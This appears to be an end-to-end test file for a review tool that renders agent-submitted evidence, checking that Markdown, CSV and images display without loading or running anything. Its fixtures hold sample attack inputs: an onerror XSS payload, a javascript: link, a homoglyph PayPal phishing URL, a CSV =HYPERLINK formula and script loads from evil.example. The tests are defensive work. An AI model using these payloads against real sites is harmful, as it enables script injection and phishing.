// Evidence is drawn as what it says it is, and stays inert: Markdown without pictures and HTML, tables, images painted anew, links by our own way out.
import { expect, expectState, refund, test } from "./journey";

const MARKDOWN = `# Shop policy

Refunds **over 30 days** need a [second look](https://pаypal.example/rules), says &#x202E;the handbook &amp; the law.

| Case | Days |
| --- | --- |
| broken | 60 |

- [x] read
- ![pixel](https://evil.example/pixel.png) <img src=x onerror="window.hacked=1"> <b>bold by HTML</b>
- [runs](javascript:window.hacked=1)
`;
const CSV = 'order;amount;note\n8841;420.00;"=HYPERLINK(""https://evil.example"")"\n8842;12.50;"two\nlines"\n';
/** 1 × 1, red, as the smallest GIF that says so. */
const GIF = "R0lGODlhAQABAIAAAP8AAP///yH5BAAAAAAALAAAAAABAAEAAAICRAEAOw==";

test("Markdown, tables and images are drawn, and nothing in them loads or runs", async ({ reviewer, agent }) => {
  const item = await agent.submit({
    ...refund(),
    evidence: [
      { kind: "text", label: "Handbook", media_type: "text/markdown", content: MARKDOWN },
      { kind: "text", label: "Orders", media_type: "text/csv", content: CSV },
      { kind: "image", label: "Receipt", media_type: "image/gif", data: GIF },
    ],
  });
  const asked: string[] = [];
  reviewer.page.on("request", (request) => asked.push(request.url()));
  await reviewer.open(item);
  const evidence = reviewer.page.getByRole("region", { name: "Evidence", exact: true });
  const handbook = evidence.getByRole("listitem").filter({ has: reviewer.page.getByRole("heading", { name: "Handbook" }) });

  await expect(handbook.locator("strong")).toHaveText("over 30 days");
  await expect(handbook.getByRole("cell", { name: "60" })).toBeVisible();
  // An agent's heading is none of the page's, its pictures are none at all, its HTML is words at most, and what hides is written out.
  await expect(handbook.getByRole("heading", { name: "Shop policy" })).toHaveCount(0);
  await expect(handbook.getByText("Shop policy")).toBeVisible();
  await expect(handbook.locator("img, b")).toHaveCount(0);
  await expect(handbook).toContainText("⟨U+202E⟩the handbook & the law");

  await expect(handbook.getByRole("link")).toHaveCount(1);
  const link = handbook.getByRole("link", { name: "second look" });
  await expect(link).toContainText("xn--pypal-4ve.example");
  await handbook.getByRole("button", { name: "As written" }).click();
  await expect(handbook).toContainText("[second look](https://pаypal.example/rules)");
  await handbook.getByRole("button", { name: "As written" }).click();

  const orders = evidence.getByRole("table").filter({ hasText: "8842" });
  await expect(orders.getByRole("columnheader", { name: "amount" })).toBeVisible();
  await expect(orders.getByRole("cell", { name: '=HYPERLINK("https://evil.example")' })).toBeVisible();

  const picture = await evidence.getByRole("img", { name: /Receipt/ }).getAttribute("src");
  const answer = await reviewer.page.request.get(`${reviewer.address}${picture}`);
  expect([answer.status(), answer.headers()["content-type"]]).toEqual([200, "image/webp"]);
  await expectState(reviewer.page, "evidence drawn");

  const [popup] = await Promise.all([reviewer.page.waitForEvent("popup"), link.click()]);
  await expect(popup.getByRole("heading", { name: "This leaves Countersign" })).toBeVisible();
  await expect(popup.getByRole("link", { name: /xn--pypal-4ve\.example/ })).toHaveAttribute("href", "https://xn--pypal-4ve.example/rules");
  // The way out leads to what stands in the text, and nowhere else.
  const elsewhere = new URL(popup.url());
  elsewhere.searchParams.set("to", "https://evil.example/");
  await popup.goto(elsewhere.href);
  await expect(popup.getByRole("link", { name: /evil/ })).toHaveCount(0);
  await popup.close();

  expect(asked.filter((url) => !url.startsWith(reviewer.address))).toEqual([]);
  expect(await reviewer.page.evaluate(() => "hacked" in window)).toBe(false);
});

test("the browser itself takes no text as code in our pages", async ({ reviewer, agent }) => {
  await reviewer.open(await agent.submit(refund()));
  reviewer.expectNoise(/requires 'Trusted|TrustedHTML|TrustedScript|violates the following Content Security Policy/);
  const refused = await reviewer.page.evaluate(() => {
    const tries = [
      () => (document.createElement("div").innerHTML = "<img src=x>"),
      () => (document.createElement("script").src = "https://evil.example/x.js"),
      () => (document.createElement("script").text = "window.hacked = 1"),
      () => {
        const script = Object.assign(document.createElement("script"), { innerHTML: "window.hacked = 1" });
        document.body.append(script);
        if (!("hacked" in window)) throw new Error("It did not run.");
      },
      () => new DOMParser().parseFromString("<b>x</b>", "text/html"),
    ];
    return tries.map((attempt) => {
      try {
        attempt();
        return "taken";
      } catch {
        return "refused";
      }
    });
  });
  expect(refused).toEqual(["refused", "refused", "refused", "refused", "refused"]);
});
